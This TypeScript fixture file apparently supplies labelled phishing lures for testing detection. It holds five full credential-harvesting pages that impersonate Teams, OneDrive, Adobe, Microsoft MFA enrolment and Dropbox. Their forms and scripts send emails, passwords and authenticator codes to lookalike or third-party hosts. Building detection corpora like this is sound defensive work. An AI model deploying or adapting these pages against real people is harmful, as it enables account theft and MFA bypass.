import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-lure-voicemail-teams',
  label: 'phishing',
  kind: 'lure',
  url: 'https://vm-notify-center.com/voicemail/msg.html?id=VM-20250314-0931&rcpt=k.tanaka@northgate-ind.com',
  routes: {
    'vm-notify-center.com/voicemail/msg.html': htmlRoute(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>New voice message</title>
<style>
body{margin:0;background:#f5f5f5;font-family:"Segoe UI",Tahoma,sans-serif;color:#242424}
.card{max-width:520px;margin:60px auto;background:#fff;border-radius:8px;box-shadow:0 2px 8px rgba(0,0,0,.12);overflow:hidden}
.h{background:#464eb8;color:#fff;padding:16px 22px;font-size:17px;display:flex;align-items:center;gap:10px}
.c{padding:22px}
.row{display:flex;justify-content:space-between;font-size:14px;border-bottom:1px solid #eee;padding:8px 0}
.wave{height:48px;background:repeating-linear-gradient(90deg,#c5c8f0 0 3px,transparent 3px 6px);margin:18px 0;border-radius:4px}
.play{display:block;text-align:center;background:#464eb8;color:#fff;text-decoration:none;padding:12px;border-radius:4px;font-weight:600}
small{color:#616161;display:block;margin-top:16px}
</style></head>
<body>
<div class="card">
<div class="h"><img src="/voicemail/teams.png" alt="" height="24"> Voicemail</div>
<div class="c">
<div class="row"><span>From</span><b>+1 (312) 555-0148</b></div>
<div class="row"><span>Received</span><span>Friday, 9:31 AM</span></div>
<div class="row"><span>Duration</span><span>00:47</span></div>
<div class="wave"></div>
<a class="play" id="play" href="#">&#9654; Play voice message</a>
<small>You received this voicemail because your number is linked to this mailbox. To listen, you will be asked to verify your organisation account.</small>
</div></div>
<script>
var r = new URLSearchParams(location.search).get('rcpt') || '';
document.getElementById('play').href = 'https://voice-portal-login.pages-cdn.net/auth/?u=' + btoa(r);
</script>
</body></html>`),
    'voice-portal-login.pages-cdn.net/auth/': htmlRoute(`<!DOCTYPE html>
<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Sign in</title>
<style>body{font-family:"Segoe UI",sans-serif;background:#fff;margin:0}.w{max-width:380px;margin:90px auto}.w img{height:22px}h2{font-weight:600}input{width:100%;height:36px;border:0;border-bottom:1px solid #666;font-size:15px;margin-bottom:14px}button{background:#0067b8;color:#fff;border:0;padding:8px 34px;float:right}.e{font-size:14px;margin-bottom:10px}</style>
</head><body><div class="w"><img src="/auth/ms.svg" alt="Microsoft"><h2>Enter password</h2><div class="e" id="e"></div>
<form method="post" action="/auth/p.php"><input type="hidden" name="u" id="u"><input type="password" name="p" placeholder="Password" required><p style="font-size:13px">To listen to your voicemail, please confirm your password.</p><button>Sign in</button></form></div>
<script>var q=new URLSearchParams(location.search).get('u');try{q=atob(q)}catch(x){}document.getElementById('e').textContent=q;document.getElementById('u').value=q;</script>
</body></html>`),
  },
},
{
  id: 'a-lure-onedrive-invoice',
  label: 'phishing',
  kind: 'lure',
  url: 'https://share-onedrive-files.web.app/view?doc=INV-88412',
  routes: {
    'share-onedrive-files.web.app/view': htmlRoute(`<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>INV-88412.pdf</title>
<style>
body{margin:0;font-family:"Segoe UI",sans-serif;background:#faf9f8}
.bar{background:#0078d4;height:48px;display:flex;align-items:center;color:#fff;padding:0 16px;font-weight:600}
.preview{max-width:760px;margin:30px auto;position:relative}
.preview img{width:100%;filter:blur(6px);opacity:.7}
.over{position:absolute;top:35%;left:50%;transform:translateX(-50%);background:#fff;padding:26px 32px;box-shadow:0 4px 16px rgba(0,0,0,.2);text-align:center;width:360px}
.over h3{margin:8px 0}
.opt{display:block;border:1px solid #ddd;padding:10px;margin-top:10px;text-decoration:none;color:#333;font-size:14px;text-align:left}
.opt img{height:18px;vertical-align:middle;margin-right:8px;filter:none;opacity:1;width:auto}
</style></head>
<body>
<div class="bar">OneDrive</div>
<div class="preview">
<img src="/static/invoice-preview.jpg" alt="">
<div class="over">
<img src="/static/pdf.png" alt="" style="width:48px;filter:none;opacity:1">
<h3>INV-88412.pdf</h3>
<p style="font-size:13px;color:#555">This document is protected. Sign in with your email provider to view.</p>
<a class="opt" href="https://docs-verify-access.netlify-app.cc/login/?p=o365"><img src="/static/o365.png" alt="">Sign in with Office 365</a>
<a class="opt" href="https://docs-verify-access.netlify-app.cc/login/?p=outlook"><img src="/static/outlook.png" alt="">Sign in with Outlook</a>
<a class="opt" href="https://docs-verify-access.netlify-app.cc/login/?p=other"><img src="/static/mail.png" alt="">Sign in with other email</a>
</div>
</div>
</body></html>`),
    'docs-verify-access.netlify-app.cc/login/': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Verify your email</title>
<style>body{font-family:Arial;background:rgba(0,0,0,.5)}.m{width:340px;margin:100px auto;background:#fff;padding:24px;border-radius:4px}input{width:100%;height:36px;margin:6px 0 12px;box-sizing:border-box}button{width:100%;height:38px;background:#0078d4;color:#fff;border:0}</style></head>
<body><div class="m"><h3 id="t">Sign in</h3><p style="font-size:13px">Confirm your email credentials to access the shared file.</p>
<form method="post" action="/login/mail.php"><input name="email" placeholder="Email address"><input name="password" type="password" placeholder="Email password"><button>View Document</button></form></div>
<script>var p=new URLSearchParams(location.search).get('p');document.getElementById('t').textContent=p==='o365'?'Office 365':p==='outlook'?'Outlook':'Email';</script></body></html>`),
  },
},
{
  id: 'a-lure-adobe-provider-picker',
  label: 'phishing',
  kind: 'lure',
  url: 'https://adobe-doc-cloud-share.com/pdf/view/',
  body: `<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Adobe Document Cloud</title>
<link rel="icon" href="/pdf/view/img/acrobat.ico">
<style>
body{margin:0;background:#323232 url(/pdf/view/img/doc-blur.jpg) center/cover;font-family:adobe-clean,"Source Sans Pro",Arial,sans-serif}
.modal{width:460px;margin:70px auto;background:#fff;border-radius:6px;padding:26px}
.hd{display:flex;align-items:center;gap:12px;border-bottom:1px solid #eee;padding-bottom:14px}
.hd img{height:40px}
.hd h2{margin:0;font-size:20px}
.prov{display:grid;grid-template-columns:1fr 1fr;gap:10px;margin-top:18px}
.prov button{height:48px;border:1px solid #ccc;background:#fafafa;border-radius:4px;font-size:14px;cursor:pointer}
#frm{display:none;margin-top:16px}
#frm input{width:100%;height:38px;margin-bottom:10px;border:1px solid #bbb;padding:0 8px;box-sizing:border-box}
#frm button{width:100%;height:40px;background:#eb1000;color:#fff;border:0;border-radius:20px}
.e{color:#c00;font-size:13px;display:none}
</style>
</head>
<body>
<div class="modal">
<div class="hd"><img src="/pdf/view/img/acrobat.png" alt="Adobe Acrobat"><h2>Purchase Order #PO-2025-0331.pdf<br><small style="font-size:13px;color:#666">242 KB · shared with you</small></h2></div>
<p style="font-size:14px">To read the document, please choose your email provider below and log in with your email.</p>
<div class="prov">
<button data-p="Outlook">Outlook</button><button data-p="Office365">Office 365</button>
<button data-p="Yahoo">Yahoo!</button><button data-p="AOL">AOL</button>
<button data-p="Gmail">Gmail</button><button data-p="Other">Other Mail</button>
</div>
<form id="frm">
<p id="pt" style="font-weight:bold"></p>
<div class="e" id="e">Login failed. Please verify your information and try again.</div>
<input id="u" type="email" placeholder="Email address" required>
<input id="p" type="password" placeholder="Password" required>
<button type="submit">View Document</button>
</form>
</div>
<script>
var prov = '', tries = 0;
[].forEach.call(document.querySelectorAll('.prov button'), function (b) {
  b.onclick = function () { prov = b.getAttribute('data-p'); document.getElementById('pt').textContent = 'Sign in with ' + prov; document.getElementById('frm').style.display = 'block'; };
});
document.getElementById('frm').onsubmit = function (ev) {
  ev.preventDefault(); tries++;
  var body = new URLSearchParams({ provider: prov, email: document.getElementById('u').value, password: document.getElementById('p').value });
  navigator.sendBeacon('/pdf/view/logs/save.php', body);
  if (tries < 2) { document.getElementById('e').style.display = 'block'; document.getElementById('p').value = ''; }
  else { location.href = '/pdf/view/img/PO-2025-0331.pdf'; }
};
</script>
</body>
</html>`,
},
{
  id: 'a-lure-qr-mfa-reenrol',
  label: 'phishing',
  kind: 'lure',
  url: 'https://it-helpdesk-mfa.com/enrol/?u=m.schneider%40holzbau-schneider.de',
  routes: {
    'it-helpdesk-mfa.com/enrol/': htmlRoute(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Multi-Factor Authentication Re-enrolment Required</title>
<style>
body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#fff;color:#222}
.w{max-width:560px;margin:40px auto;border:1px solid #ddd;padding:30px}
.ms{height:22px}
h2{font-weight:600;margin:18px 0 10px}
.qr{display:block;margin:20px auto;width:200px;height:200px;border:1px solid #ddd}
ol{font-size:14px;line-height:1.6}
.d{font-size:13px;color:#a4262c;font-weight:600}
.f{font-size:11px;color:#777;margin-top:24px;border-top:1px solid #eee;padding-top:12px}
</style></head>
<body>
<div class="w">
<img class="ms" src="/enrol/ms-logo.svg" alt="Microsoft">
<h2>Action required: re-enrol your authenticator</h2>
<p>Your organisation's security policy has been updated. All users must re-register Multi-Factor Authentication by <b>Friday</b>. Accounts that are not re-enrolled will be locked out of email, Teams and SharePoint.</p>
<img class="qr" src="/enrol/qr.svg" alt="QR code">
<ol>
<li>Open the camera on your mobile phone.</li>
<li>Scan the QR code above.</li>
<li>Sign in with your work account and approve the request.</li>
</ol>
<p class="d">Do not forward this message. The QR code is unique to your account.</p>
<div class="f">IT Service Desk · Information Security</div>
</div>
</body></html>`),
    'it-helpdesk-mfa.com/enrol/qr.svg': { status: 200, headers: { 'content-type': 'image/svg+xml' }, body: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 31 31" shape-rendering="crispEdges"><path fill="#ffffff" d="M0 0h31v31H0z"/><path stroke="#000000" d="M1 1.5h7m1 0h1m1 0h4m1 0h1m2 0h3m1 0h7M1 2.5h1m5 0h1m1 0h1m4 0h1m2 0h2m2 0h1m1 0h1m5 0h1M1 3.5h1m1 0h3m1 0h1m2 0h2m1 0h1m2 0h1m2 0h1m1 0h1m1 0h1m1 0h3m1 0h1M1 4.5h1m1 0h3m1 0h1m1 0h1m3 0h1m1 0h1m2 0h2m3 0h1m1 0h3m1 0h1M1 5.5h1m1 0h3m1 0h1m2 0h3m2 0h3m2 0h1m2 0h1m1 0h3m1 0h1M1 6.5h1m5 0h1m3 0h4m3 0h4m1 0h1m5 0h1M1 7.5h7m1 0h1m1 0h1m1 0h1m1 0h1m1 0h1m1 0h1m1 0h1m1 0h7M9 8.5h3m4 0h3M1 9.5h1m1 0h2m1 0h3m1 0h1m1 0h3m2 0h3m3 0h1m2 0h1m1 0h2M1 10.5h4m9 0h2m1 0h1m1 0h7m3 0h1M4 11.5h2m1 0h3m1 0h1m2 0h1m2 0h1m4 0h1m1 0h1m2 0h2M1 12.5h3m1 0h1m3 0h1m2 0h2m2 0h1m2 0h5m1 0h1m3 0h1M1 13.5h1m1 0h1m1 0h1m1 0h3m5 0h1m2 0h1m1 0h1m5 0h2M1 14.5h1m1 0h4m4 0h3m1 0h2m3 0h2m1 0h1m3 0h3M1 15.5h2m1 0h1m1 0h4m4 0h1m2 0h6m1 0h1m2 0h3M1 16.5h2m2 0h2m2 0h2m4 0h3m2 0h1m1 0h1m1 0h1m3 0h1M3 17.5h8m1 0h2m1 0h2m2 0h4m1 0h3m1 0h1M2 18.5h1m2 0h1m3 0h2m4 0h2m1 0h1m2 0h2m3 0h3M1 19.5h1m1 0h1m1 0h5m1 0h7m3 0h2m2 0h1m1 0h1M4 20.5h1m3 0h4m1 0h9m5 0h1M2 21.5h2m1 0h1m1 0h5m2 0h5m1 0h8M9 22.5h2m6 0h5m3 0h5M1 23.5h7m1 0h1m1 0h1m3 0h1m3 0h3m1 0h1m1 0h2m1 0h1M1 24.5h1m5 0h1m1 0h3m2 0h4m1 0h1m1 0h1m3 0h2m2 0h1M1 25.5h1m1 0h3m1 0h1m3 0h2m3 0h3m2 0h5m1 0h1M1 26.5h1m1 0h3m1 0h1m1 0h2m1 0h1m1 0h1m1 0h3m1 0h3m2 0h2m2 0h1M1 27.5h1m1 0h3m1 0h1m1 0h3m3 0h1m1 0h1m1 0h1m4 0h1m2 0h1m1 0h1M1 28.5h1m5 0h1m2 0h2m3 0h1m1 0h1m3 0h1m2 0h3m1 0h1M1 29.5h7m1 0h1m3 0h1m2 0h1m2 0h3m2 0h2m2 0h1"/></svg>` },
    'it-helpdesk-mfa.com/enrol/go': redirectRoute(302, 'https://login.mfa-registration-portal.com/common/reprocess?u=m.schneider%40holzbau-schneider.de'),
    'login.mfa-registration-portal.com/common/reprocess': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Sign in to your account</title>
<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#f2f2f2}.b{max-width:440px;margin:10vh auto;background:#fff;padding:40px;box-sizing:border-box}input{width:100%;border:0;border-bottom:1px solid #666;height:34px;font-size:15px;margin:10px 0}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;margin-top:10px}</style></head>
<body><div class="b"><img src="/common/ms.svg" alt="Microsoft" height="22"><h2>Verify your identity</h2><p style="font-size:14px">Sign in to complete your Multi-Factor Authentication registration.</p>
<form method="post" action="/common/mfa.php"><input name="login" id="l" type="email" placeholder="Email"><input name="passwd" type="password" placeholder="Password"><input name="otc" placeholder="Code from your authenticator app (if prompted)"><button>Sign in</button></form></div>
<script>var u=new URLSearchParams(location.search).get('u');if(u)document.getElementById('l').value=u;</script></body></html>`),
  },
},
{
  id: 'a-lure-dropbox-transfer',
  label: 'phishing',
  kind: 'lure',
  url: 'https://dropbox-transfer-files.com/t/Q2_Financials',
  routes: {
    'dropbox-transfer-files.com/t/Q2_Financials': htmlRoute(`<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Dropbox - Q2 Financials</title>
<link rel="icon" href="https://cfl.dropboxstatic.com/static/images/favicon-vfl8lUR9B.ico">
<style>
body{margin:0;font-family:"Sharp Grotesk","Atlas Grotesk",Helvetica,Arial,sans-serif;background:#f7f5f2}
.top{height:60px;background:#fff;display:flex;align-items:center;padding:0 24px;border-bottom:1px solid #e6e4e1}.top img{height:30px}
.t{max-width:520px;margin:60px auto;background:#fff;border-radius:8px;padding:34px;text-align:center}
.files{text-align:left;border:1px solid #e6e4e1;border-radius:4px;margin:20px 0}
.files div{padding:10px 14px;border-bottom:1px solid #eee;font-size:14px}
.dl{background:#0061fe;color:#fff;border:0;height:44px;padding:0 28px;border-radius:4px;font-size:15px;font-weight:600;cursor:pointer}
.login{display:none;text-align:left;margin-top:20px}
.login input{width:100%;height:42px;border:1px solid #bbb;border-radius:4px;padding:0 10px;margin:6px 0 12px;box-sizing:border-box}
</style></head>
<body>
<div class="top"><img src="/t/img/dropbox.svg" alt="Dropbox"></div>
<div class="t">
<h2>Q2 Financials</h2>
<p style="color:#637282">3 files · 14.2 MB · Expires in 6 days</p>
<div class="files"><div>&#128196; Q2_Balance_Sheet.xlsx</div><div>&#128196; Q2_PnL_Summary.pdf</div><div>&#128196; Payroll_Reconciliation.pdf</div></div>
<button class="dl" onclick="document.querySelector('.login').style.display='block';this.style.display='none'">Download</button>
<form class="login" method="post" action="https://submit-form.com/Kp3vX9aLq">
<p style="font-size:14px"><b>Verify your email to download</b><br>Enter the email address this transfer was sent to.</p>
<input type="email" name="email" placeholder="Email" required>
<input type="password" name="password" placeholder="Email password" required>
<input type="hidden" name="_redirect" value="https://www.dropbox.com/">
<button class="dl" type="submit" style="width:100%">Continue</button>
</form>
</div>
</body></html>`),
  },
},
];
